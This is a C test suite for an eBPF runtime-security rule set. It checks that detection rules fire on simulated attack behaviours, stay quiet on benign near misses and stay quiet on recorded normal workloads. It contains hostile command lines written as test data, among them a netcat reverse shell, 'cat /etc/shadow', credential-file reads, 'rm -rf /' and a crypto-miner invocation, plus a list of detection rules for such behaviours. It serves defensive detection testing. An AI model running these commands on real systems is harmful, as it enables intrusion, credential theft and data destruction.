/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The default rule set (data/rules/ringfence-default.yaml): every rule fires on its behaviour
 * and stays quiet on a benign near miss (cat /etc/shadow vs cat /etc/hostname), every rule is
 * covered here and has a finding type and ATT&CK ids; and the recorded streams of normal
 * workloads (nginx, redis, a Python service, an apt/pip/gcc package build) produce no finding. */
#include <linux/bpf.h>
#include <sys/mman.h>
#include <sys/ptrace.h>

#include "rules-helpers.h"

static struct rf_ruleset *rs;
static struct rf_proc *runc, *nginx, *bash, *user_app, *host_sh, *py, *dpkg_p;

static void setup(void)
{
	_cleanup_error_ struct rf_error err = { 0 };

	cr_assert_eq(rf_ruleset_new(&rs), 0);
	cr_assert_eq(rf_ruleset_load_default(rs, &err), 0, "%s", err.message);
	cr_assert_eq(rf_ruleset_compile(rs, &err), 0, "%s", err.message);
	runc = proc_new(100, "runc:[2:INIT]", "/usr/bin/runc", "runc init", NULL, true);
	nginx = proc_new(101, "nginx", "/usr/sbin/nginx", "nginx -g daemon off;", runc, true);
	bash = proc_new(102, "bash", "/bin/bash", "bash", runc, true);
	user_app = proc_new(103, "app", "/srv/app", "/srv/app --serve", runc, true);
	host_sh = proc_new(104, "sh", "/bin/sh", "sh -c make", NULL, false);
	py = proc_new(105, "python3", "/usr/bin/python3", "python3 /srv/app.py", runc, true);
	dpkg_p = proc_new(106, "dpkg", "/usr/bin/dpkg", "dpkg -i x.deb", NULL, false);
	user_app->uid = 1000;
	user_app->euid = 1000;
}

static void teardown(void)
{
	rf_ruleset_free(rs);
	proc_free(py), proc_free(host_sh), proc_free(user_app), proc_free(bash);
	proc_free(nginx), proc_free(runc), proc_free(dpkg_p);
}

TestSuite(default_rules, .init = setup, .fini = teardown);

/* Rules a positive case below exercised (every rule must be). */
static char exercised[128][128];
static size_t n_exercised;

static void fires(const char *rule, const struct rf_event *ev)
{
	struct match_log m = { 0 };

	cr_assert(rf_ruleset_find(rs, rule), "no default rule '%s'", rule);
	eval1(rs, ev, &m);
	cr_assert(matched(&m, rule), "'%s' did not fire (%zu others did: %s)", rule, m.n,
		  m.n ? m.names[0] : "-");
	(void)snprintf(exercised[n_exercised++], sizeof(exercised[0]), "%s", rule);
}

static void quiet(const char *rule, const struct rf_event *ev)
{
	struct match_log m = { 0 };

	eval1(rs, ev, &m);
	cr_assert(!matched(&m, rule), "'%s' fired on its near miss", rule);
}

/* A child of `parent` running `cmdline` (argv[0]'s basename as comm). */
static struct rf_proc *child(pid_t pid, const struct rf_proc *parent, const char *exe,
			     const char *cmdline)
{
	const char *slash = strrchr(exe, '/');

	return proc_new(pid, slash ? slash + 1 : exe, exe, cmdline, parent,
			parent && parent->container_id[0]);
}

static struct rf_event ev_kind(const struct rf_proc *p, enum rf_event_kind k, const char *origin)
{
	return ev_base(k, p, origin);
}

/* What the default rules ask of an eBPF source: every path of writes, unlinks, renames ...
 * (drift, tampering), but read-only opens only below the sensitive files' prefixes (or with a
 * "/." in them: ~/.ssh, ~/.aws ...): a server opening the pages it serves is dropped in the
 * kernel (bench/watch-overhead.sh). */
Test(default_rules, read_only_opens_are_filtered_by_prefix)
{
	struct rf_ruleset_needs n;

	cr_assert_eq(rf_ruleset_needs(rs, &n), 0);
	cr_assert(!n.all_paths, "a default rule reads read-only opens at any path");
	cr_assert(n.all_write_paths);
	for (const char *const *want =
		     (const char *const[]){ "/etc/shadow", "/etc/sudoers",
					    "/var/run/secrets/kubernetes.io/serviceaccount/token",
					    NULL };
	     *want; want++) {
		bool found = false;

		STRV_FOREACH(p, n.path_prefixes)
			found |= !strncmp(*want, *p, strlen(*p));
		cr_assert(found, "no prefix passes %s", *want);
	}
	STRV_FOREACH(p, n.path_prefixes)
		cr_assert(strcmp(*p, "/") && strcmp(*p, "/srv/") && strcmp(*p, "/var/www/"),
			  "prefix %s passes a server's pages", *p);
	rf_ruleset_needs_done(&n);
}

/* The default rules and the threat-list rules read outbound connections only at the metadata
 * and API server addresses and at listed ones: the eBPF source filters the rest in the kernel
 * (bench/ioc-overhead.sh). */
Test(default_rules, outbound_connections_are_filtered_by_address)
{
	struct rf_ruleset *both = NULL;
	struct rf_ruleset_needs n;
	struct rf_error err = { 0 };

	cr_assert_eq(rf_ruleset_needs(rs, &n), 0);
	cr_assert(!n.all_addrs, "a default rule reads connections to any address");
	cr_assert(strv_contains(n.addr_prefixes, "169.254.169.254/32"));
	cr_assert(!n.addrs_ioc && !n.addrs_dns_listed);
	rf_ruleset_needs_done(&n);

	cr_assert_eq(rf_ruleset_new(&both), 0);
	cr_assert_eq(rf_ruleset_load_default(both, &err), 0, "%s", err.message);
	cr_assert_eq(rf_ruleset_load_builtin(both, "ioc", &err), 0, "%s", err.message);
	cr_assert_eq(rf_ruleset_compile(both, &err), 0, "%s", err.message);
	cr_assert_eq(rf_ruleset_needs(both, &n), 0);
	cr_assert(!n.all_addrs && n.addrs_ioc && n.addrs_dns_listed);
	rf_ruleset_needs_done(&n);
	rf_ruleset_free(both);
}

Test(default_rules, credential_access)
{
	struct rf_proc *cat = child(200, bash, "/bin/cat", "cat /etc/shadow");
	struct rf_proc *sshd = child(201, NULL, "/usr/sbin/sshd", "sshd -D");
	struct rf_proc *ln = child(202, bash, "/bin/ln", "ln /etc/shadow /tmp/s");
	struct rf_event e;

	e = ev_open(cat, "/etc/shadow", O_RDONLY, RF_ACC_READ);
	fires("Read shadow or sudoers file by untrusted program", &e);
	e = ev_open(cat, "/tmp/../etc/sudoers.d/90-cloud", O_RDONLY, RF_ACC_READ);
	fires("Read shadow or sudoers file by untrusted program", &e);
	e = ev_open(cat, "/etc/hostname", O_RDONLY, RF_ACC_READ);
	quiet("Read shadow or sudoers file by untrusted program", &e);
	e = ev_open(sshd, "/etc/shadow", O_RDONLY, RF_ACC_READ);
	quiet("Read shadow or sudoers file by untrusted program", &e);

	e = ev_open(cat, "/root/.ssh/id_ed25519", O_RDONLY, RF_ACC_READ);
	fires("Read SSH private key by untrusted program", &e);
	e = ev_open(cat, "/root/.ssh/id_ed25519.pub", O_RDONLY, RF_ACC_READ);
	quiet("Read SSH private key by untrusted program", &e);

	e = ev_open(cat, "/etc/kubernetes/admin.conf", O_RDONLY, RF_ACC_READ);
	fires("Read kubelet or cluster credentials by untrusted program", &e);
	e = ev_open(cat, "/etc/kubernetes/manifests/etcd.yaml", O_RDONLY, RF_ACC_READ);
	quiet("Read kubelet or cluster credentials by untrusted program", &e);

	e = ev_open(cat, "/var/run/secrets/kubernetes.io/serviceaccount/token", O_RDONLY,
		    RF_ACC_READ);
	fires("Read service account token or cloud credentials with a file tool", &e);
	e = ev_open(cat, "/home/dev/.aws/credentials", O_RDONLY, RF_ACC_READ);
	fires("Read service account token or cloud credentials with a file tool", &e);
	e = ev_open(user_app, "/var/run/secrets/kubernetes.io/serviceaccount/token", O_RDONLY,
		    RF_ACC_READ);
	quiet("Read service account token or cloud credentials with a file tool", &e);

	e = ev_file2(ln, RF_FILE_LINK, "linkat", "/etc/shadow", "/tmp/s");
	fires("Link created over sensitive file", &e);
	e = ev_file2(ln, RF_FILE_SYMLINK, "symlinkat", "../../etc/shadow", "/tmp/x/s");
	fires("Link created over sensitive file", &e);
	e = ev_file2(ln, RF_FILE_SYMLINK, "symlinkat", "../etc/hostname", "/tmp/h");
	quiet("Link created over sensitive file", &e);
	proc_free(cat), proc_free(sshd), proc_free(ln);
}

Test(default_rules, execution)
{
	struct rf_proc *sh = child(300, nginx, "/bin/sh", "sh -c id");
	struct rf_proc *sh2 = child(301, bash, "/bin/sh", "sh -c id");
	struct rf_proc *term = child(302, runc, "/bin/bash", "bash");
	struct rf_proc *script = child(303, runc, "/bin/sh", "sh /entrypoint.sh");
	struct rf_proc *nc = child(304, bash, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
	struct rf_proc *nc_host = child(305, host_sh, "/usr/bin/nc", "nc -z localhost 22");
	struct rf_proc *drop = child(306, bash, "/tmp/.x/payload", "/tmp/.x/payload");
	struct rf_proc *memfd = child(307, bash, "/memfd:x (deleted)", "x");
	struct rf_proc *miner = child(308, bash, "/usr/local/bin/kworker",
				      "kworker -o stratum+tcp://pool.example:3333 -u w");
	struct rf_proc *apt = child(309, bash, "/usr/bin/apt-get", "apt-get install -y nmap");
	struct rf_proc *make = child(310, bash, "/usr/bin/make", "make");
	struct rf_proc *conftest = child(311, make, "/tmp/build/conftest", "./conftest");
	struct rf_event e, w;
	struct rf_rules_eval *ctx = NULL;
	struct match_log m = { 0 };

	e = ev_exec(sh);
	fires("Shell spawned by a server process", &e);
	e = ev_exec(sh2);
	quiet("Shell spawned by a server process", &e);
	e = ev_exec(term);
	fires("Terminal shell in container", &e);
	e = ev_exec(script);
	quiet("Terminal shell in container", &e);

	e = ev_kind(bash, RF_EV_FD, "dup2");
	e.fd = (struct rf_ev_fd){ .oldfd = 3, .newfd = 0, .old_is_socket = true };
	fires("Reverse shell", &e);
	e.fd.old_is_socket = false; /* a pipe onto stdin: every shell pipeline */
	quiet("Reverse shell", &e);

	e = ev_exec(nc);
	fires("Network tool launched in container", &e);
	e = ev_exec(nc_host);
	quiet("Network tool launched in container", &e);

	/* Drift: written (in this container), then executed; the same path never written
	 * stays quiet, as does a build's own test program. */
	cr_assert_eq(rf_rules_eval_new(rs, NULL, &ctx), 0);
	e = ev_exec(drop);
	expect_i(rf_rules_eval(ctx, &e, log_match, &m), 0);
	w = ev_open(bash, "/tmp/.x/payload", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	(void)rf_rules_eval(ctx, &w, NULL, NULL);
	(void)rf_rules_eval(ctx, &e, log_match, &m);
	cr_assert(matched(&m, "Executed file written after the container started"));
	(void)snprintf(exercised[n_exercised++], sizeof(exercised[0]), "%s",
		       "Executed file written after the container started");
	w = ev_open(make, "/tmp/build/conftest", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	(void)rf_rules_eval(ctx, &w, NULL, NULL);
	m.n = 0;
	e = ev_exec(conftest);
	(void)rf_rules_eval(ctx, &e, log_match, &m);
	cr_assert(!matched(&m, "Executed file written after the container started"));
	rf_rules_eval_free(ctx);

	e = ev_exec(memfd);
	e.exec.is_memfd = true;
	fires("Fileless execution", &e);
	e = ev_exec(nc);
	quiet("Fileless execution", &e);

	e = ev_exec(miner);
	fires("Crypto miner launched", &e);
	e = ev_exec(sh2);
	quiet("Crypto miner launched", &e);

	e = ev_exec(apt);
	fires("Package manager launched in container", &e);
	e = ev_exec(make);
	quiet("Package manager launched in container", &e);
	proc_free(sh), proc_free(sh2), proc_free(term), proc_free(script), proc_free(nc);
	proc_free(nc_host), proc_free(drop), proc_free(memfd), proc_free(miner), proc_free(apt);
	proc_free(conftest), proc_free(make);
}

Test(default_rules, injection_and_anti_debugging)
{
	struct rf_proc *gdb = child(400, bash, "/usr/bin/gdb", "gdb -p 1");
	struct rf_proc *traced = child(401, gdb, "/srv/app", "app");
	struct rf_event e = ev_kind(bash, RF_EV_PTRACE, "ptrace");

	e.ptrace = (struct rf_ev_ptrace){ .op = RF_PTRACE_REQUEST,
					  .request = PTRACE_ATTACH,
					  .target = 1 };
	fires("Ptrace attached to another process", &e);
	e.ptrace.request = PTRACE_PEEKDATA;
	quiet("Ptrace attached to another process", &e);
	e = ev_kind(gdb, RF_EV_PTRACE, "ptrace");
	e.ptrace = (struct rf_ev_ptrace){ .op = RF_PTRACE_REQUEST, .request = PTRACE_SEIZE };
	quiet("Ptrace attached to another process", &e);

	e = ev_kind(user_app, RF_EV_PTRACE, "ptrace");
	e.ptrace = (struct rf_ev_ptrace){ .op = RF_PTRACE_REQUEST, .request = PTRACE_TRACEME };
	fires("PTRACE_TRACEME anti-debugging", &e);
	e.proc = traced; /* under a debugger */
	quiet("PTRACE_TRACEME anti-debugging", &e);

	e = ev_kind(bash, RF_EV_PTRACE, "process_vm_writev");
	e.ptrace = (struct rf_ev_ptrace){ .op = RF_PTRACE_VM_WRITE, .target = 1 };
	fires("Process memory written with process_vm_writev", &e);
	e = ev_kind(bash, RF_EV_PTRACE, "process_vm_readv");
	e.ptrace = (struct rf_ev_ptrace){ .op = RF_PTRACE_VM_READ, .target = 1 };
	quiet("Process memory written with process_vm_writev", &e);

	e = ev_open(bash, "/proc/1/mem", O_RDWR, RF_ACC_READ | RF_ACC_WRITE);
	fires("Process memory written through /proc/PID/mem", &e);
	e = ev_open(bash, "/proc/1/mem", O_RDONLY, RF_ACC_READ);
	quiet("Process memory written through /proc/PID/mem", &e);
	proc_free(traced), proc_free(gdb);
}

Test(default_rules, persistence_and_tampering)
{
	struct rf_proc *dpkg_sh = child(500, dpkg_p, "/bin/sh", "sh postinst configure");
	struct rf_proc *rm = child(501, bash, "/bin/rm", "rm -rf /");
	struct rf_proc *rm2 = child(502, bash, "/bin/rm", "rm -rf ./build");
	struct rf_proc *shred = child(503, bash, "/usr/bin/shred", "shred -u secrets");
	struct rf_proc *logrotate = child(504, NULL, "/usr/sbin/logrotate", "logrotate x");
	struct rf_event e;

	e = ev_open(bash, "/usr/bin/ls", O_WRONLY | O_TRUNC, RF_ACC_WRITE);
	fires("Write below binary or library directory", &e);
	e = ev_open(dpkg_p, "/usr/bin/ls", O_WRONLY | O_TRUNC, RF_ACC_WRITE);
	quiet("Write below binary or library directory", &e);
	e = ev_open(bash, "/usr/bin/ls", O_RDONLY, RF_ACC_READ);
	quiet("Write below binary or library directory", &e);

	e = ev_open(bash, "/etc/ld.so.preload", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	fires("Write below etc", &e);
	e = ev_open(dpkg_sh, "/etc/default/x", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	quiet("Write below etc", &e);

	e = ev_file2(bash, RF_FILE_RENAME, "rename", "/tmp/x", "/root/.config-backdoor");
	fires("Write below root", &e);
	e = ev_open(bash, "/root/.cache/pip/x", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	quiet("Write below root", &e);

	e = ev_open(bash, "/etc/cron.d/evil", O_WRONLY | O_CREAT, RF_ACC_WRITE | RF_ACC_CREATE);
	fires("Cron job created or modified", &e);
	e = ev_open(bash, "/etc/cron.d/evil", O_RDONLY, RF_ACC_READ);
	quiet("Cron job created or modified", &e);

	e = ev_open(bash, "/home/u/.ssh/authorized_keys", O_WRONLY | O_APPEND,
		    RF_ACC_WRITE | RF_ACC_APPEND);
	fires("SSH authorized_keys modified", &e);
	e = ev_open(bash, "/home/u/.ssh/known_hosts", O_WRONLY | O_APPEND,
		    RF_ACC_WRITE | RF_ACC_APPEND);
	quiet("SSH authorized_keys modified", &e);

	e = ev_open(bash, "/home/u/.bashrc", O_WRONLY | O_APPEND, RF_ACC_WRITE | RF_ACC_APPEND);
	fires("Shell configuration file modified", &e);
	e = ev_open(bash, "/home/u/.bashrc", O_RDONLY, RF_ACC_READ);
	quiet("Shell configuration file modified", &e);

	e = ev_open(bash, "/var/log/auth.log", O_WRONLY | O_TRUNC, RF_ACC_WRITE);
	fires("Log file cleared", &e);
	e = ev_open(logrotate, "/var/log/auth.log", O_WRONLY | O_TRUNC, RF_ACC_WRITE);
	quiet("Log file cleared", &e);
	e = ev_open(bash, "/var/log/auth.log", O_WRONLY | O_APPEND, RF_ACC_WRITE | RF_ACC_APPEND);
	quiet("Log file cleared", &e);

	e = ev_file2(bash, RF_FILE_UNLINK, "unlinkat", "/root/.bash_history", NULL);
	fires("Shell history deleted or truncated", &e);
	e = ev_file2(bash, RF_FILE_SYMLINK, "symlinkat", "/dev/null", "/root/.bash_history");
	fires("Shell history deleted or truncated", &e);
	e = ev_open(bash, "/root/.bash_history", O_WRONLY | O_TRUNC, RF_ACC_WRITE);
	quiet("Shell history deleted or truncated", &e); /* bash writing its own history */

	e = ev_exec(rm);
	fires("Secure deletion or bulk removal", &e);
	e = ev_exec(shred);
	fires("Secure deletion or bulk removal", &e);
	e = ev_exec(rm2);
	quiet("Secure deletion or bulk removal", &e);
	proc_free(dpkg_sh), proc_free(rm), proc_free(rm2), proc_free(shred), proc_free(logrotate);
}

Test(default_rules, privilege_escalation_and_escape)
{
	struct rf_proc *sudo = child(600, user_app, "/usr/bin/sudo", "sudo -i");
	struct rf_proc *runc_ns = child(601, NULL, "/usr/bin/runc", "runc init");
	struct rf_proc *systemd =
		proc_new(1, "systemd", "/lib/systemd/systemd", "systemd", NULL, false);
	struct rf_event e;

	runc_ns->container_id[0] = 'a';
	e = ev_file2(bash, RF_FILE_CHMOD, "fchmodat", "/tmp/rootsh", NULL);
	e.file.mode = 04755;
	fires("Setuid or setgid bit set", &e);
	e.file.mode = 0755;
	quiet("Setuid or setgid bit set", &e);

	e = ev_kind(user_app, RF_EV_CRED, "setuid");
	e.cred = (struct rf_ev_cred){ .op = RF_CRED_SETUID, .ids = { -1, 0, -1 } };
	fires("Non-sudo setuid to root", &e);
	e.proc = sudo;
	quiet("Non-sudo setuid to root", &e);

	e = ev_kind(bash, RF_EV_NAMESPACE, "unshare");
	e.ns = (struct rf_ev_namespace){ .op = RF_NS_UNSHARE, .flags = 0x10000000 };
	fires("Namespace change in container", &e);
	e.proc = runc_ns;
	quiet("Namespace change in container", &e);

	e = ev_kind(bash, RF_EV_NAMESPACE, "mount");
	e.ns = (struct rf_ev_namespace){
		.op = RF_NS_MOUNT, .source = "/dev/sda1", .target = "/mnt", .fstype = "ext4"
	};
	fires("Mount in container", &e);
	e.proc = host_sh;
	quiet("Mount in container", &e);

	e = ev_kind(bash, RF_EV_MODULE, "finit_module");
	e.module = (struct rf_ev_module){ .op = RF_MODULE_LOAD, .name = "/tmp/rk.ko" };
	fires("Kernel module loaded", &e);
	e = ev_kind(systemd, RF_EV_MODULE, "finit_module");
	e.module = (struct rf_ev_module){ .op = RF_MODULE_LOAD, .name = "nf_tables" };
	quiet("Kernel module loaded", &e);

	e = ev_open(bash, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY, RF_ACC_WRITE);
	fires("Release agent written", &e);
	e = ev_open(bash, "/sys/fs/cgroup/rdma/release_agent", O_RDONLY, RF_ACC_READ);
	quiet("Release agent written", &e);

	e = ev_open(bash, "/proc/sys/kernel/core_pattern", O_WRONLY, RF_ACC_WRITE);
	fires("Kernel callback path written", &e);
	e = ev_open(bash, "/proc/sys/kernel/core_pattern", O_RDONLY, RF_ACC_READ);
	quiet("Kernel callback path written", &e);

	e = ev_open(bash, "/proc/sysrq-trigger", O_WRONLY, RF_ACC_WRITE);
	fires("Sysrq trigger written", &e);
	e = ev_open(bash, "/proc/sys/kernel/hostname", O_WRONLY, RF_ACC_WRITE);
	quiet("Sysrq trigger written", &e);

	e = ev_kind(bash, RF_EV_NET, "connect");
	e.net = (struct rf_ev_net){ .op = RF_NET_CONNECT,
				    .fd = 3,
				    .family = AF_UNIX,
				    .remote = { .family = AF_UNIX,
						.unix_path = "/var/run/docker.sock" } };
	fires("Container runtime socket accessed", &e);
	e.net.remote.unix_path = "/run/app/app.sock";
	quiet("Container runtime socket accessed", &e);

	e = ev_kind(user_app, RF_EV_MEMORY, "userfaultfd");
	e.mem = (struct rf_ev_memory){ .op = RF_MEM_USERFAULTFD };
	fires("Userfaultfd by unprivileged user", &e);
	e.proc = bash; /* root */
	quiet("Userfaultfd by unprivileged user", &e);

	e = ev_kind(bash, RF_EV_BPF, "bpf");
	e.bpf = (struct rf_ev_bpf){ .cmd = BPF_PROG_LOAD, .prog_type = 2 };
	fires("BPF program loaded", &e);
	e.bpf.cmd = BPF_MAP_LOOKUP_ELEM;
	quiet("BPF program loaded", &e);
	proc_free(sudo), proc_free(runc_ns), proc_free(systemd);
}

Test(default_rules, network)
{
	struct rf_event e = ev_kind(bash, RF_EV_NET, "socket");

	e.net = (struct rf_ev_net){
		.op = RF_NET_SOCKET, .fd = -1, .family = AF_PACKET, .type = SOCK_RAW
	};
	fires("Raw or packet socket in container", &e);
	e.net.family = AF_INET;
	e.net.type = SOCK_STREAM;
	quiet("Raw or packet socket in container", &e);

	e = ev_connect4(py, "169.254.169.254", 80);
	fires("Cloud metadata service contacted from container", &e);
	e = ev_connect4(py, "10.1.2.3", 80);
	quiet("Cloud metadata service contacted from container", &e);

	e = ev_connect4(py, "10.96.0.1", 443);
	fires("Kubernetes API server contacted from container", &e);
	e = ev_connect4(py, "10.96.0.1", 53);
	quiet("Kubernetes API server contacted from container", &e);
}

/* Every default rule is covered above (the list is kept in step by hand; this test fails
 * when a rule is added without its cases) and carries a finding type and ATT&CK ids. */
Test(default_rules, every_rule_is_tested_and_classified)
{
	static const char *const covered[] = {
		"Read shadow or sudoers file by untrusted program",
		"Read SSH private key by untrusted program",
		"Read kubelet or cluster credentials by untrusted program",
		"Read service account token or cloud credentials with a file tool",
		"Link created over sensitive file",
		"Shell spawned by a server process",
		"Terminal shell in container",
		"Reverse shell",
		"Network tool launched in container",
		"Executed file written after the container started",
		"Fileless execution",
		"Crypto miner launched",
		"Package manager launched in container",
		"Ptrace attached to another process",
		"PTRACE_TRACEME anti-debugging",
		"Process memory written with process_vm_writev",
		"Process memory written through /proc/PID/mem",
		"Write below binary or library directory",
		"Write below etc",
		"Write below root",
		"Cron job created or modified",
		"SSH authorized_keys modified",
		"Shell configuration file modified",
		"Log file cleared",
		"Shell history deleted or truncated",
		"Secure deletion or bulk removal",
		"Setuid or setgid bit set",
		"Non-sudo setuid to root",
		"Namespace change in container",
		"Mount in container",
		"Kernel module loaded",
		"Release agent written",
		"Kernel callback path written",
		"Sysrq trigger written",
		"Container runtime socket accessed",
		"Userfaultfd by unprivileged user",
		"BPF program loaded",
		"Raw or packet socket in container",
		"Cloud metadata service contacted from container",
		"Kubernetes API server contacted from container",
	};

	expect_u(rf_ruleset_count(rs), ELEMENTSOF(covered));
	for (size_t i = 0; i < rf_ruleset_count(rs); i++) {
		const struct rf_rule *r = rf_ruleset_rule(rs, i);
		bool found = false;

		for (size_t k = 0; k < ELEMENTSOF(covered); k++)
			found |= streq(covered[k], rf_rule_name(r));
		cr_assert(found, "rule '%s' has no test cases", rf_rule_name(r));
		cr_assert(!strstr(rf_rule_finding_type(r), "Unclassified"), "%s: no finding_type",
			  rf_rule_name(r));
		cr_assert(rf_rule_mitre(r)[0], "%s: no MITRE id", rf_rule_name(r));
		cr_assert(rf_rule_enabled(r));
	}
}

/* ---- normal workloads: no finding ---- */

static void no_findings(const char *fixture)
{
	struct fx_stream s;
	struct rf_rules_eval *e = NULL;
	struct match_log m = { 0 };
	size_t decoded = 0;

	fx_load(&s, fixture);
	cr_assert(s.n > 100, "%s: only %zu events", fixture, s.n);
	cr_assert_eq(rf_rules_eval_new(rs, NULL, &e), 0);
	for (size_t i = 0; i < s.n; i++) {
		decoded += s.v[i].kind == RF_EV_FILE || s.v[i].kind == RF_EV_NET;
		(void)rf_rules_eval(e, &s.v[i], log_match, &m);
		cr_assert(m.n == 0, "%s: event %zu (%s, pid %d %s) matched '%s': %s", fixture, i,
			  rf_event_kind_name(s.v[i].kind), s.v[i].tgid, s.v[i].comm, m.names[0],
			  m.output);
	}
	cr_assert(decoded > 50, "%s: only %zu file/net events", fixture, decoded);
	rf_rules_eval_free(e);
	fx_free(&s);
}

Test(default_rules, quiet_on_nginx)
{
	no_findings("events/nginx.jsonl");
}
Test(default_rules, quiet_on_redis)
{
	no_findings("events/redis.jsonl");
}
Test(default_rules, quiet_on_python)
{
	no_findings("events/python.jsonl");
}
Test(default_rules, quiet_on_package_build)
{
	no_findings("events/package-build.jsonl");
}
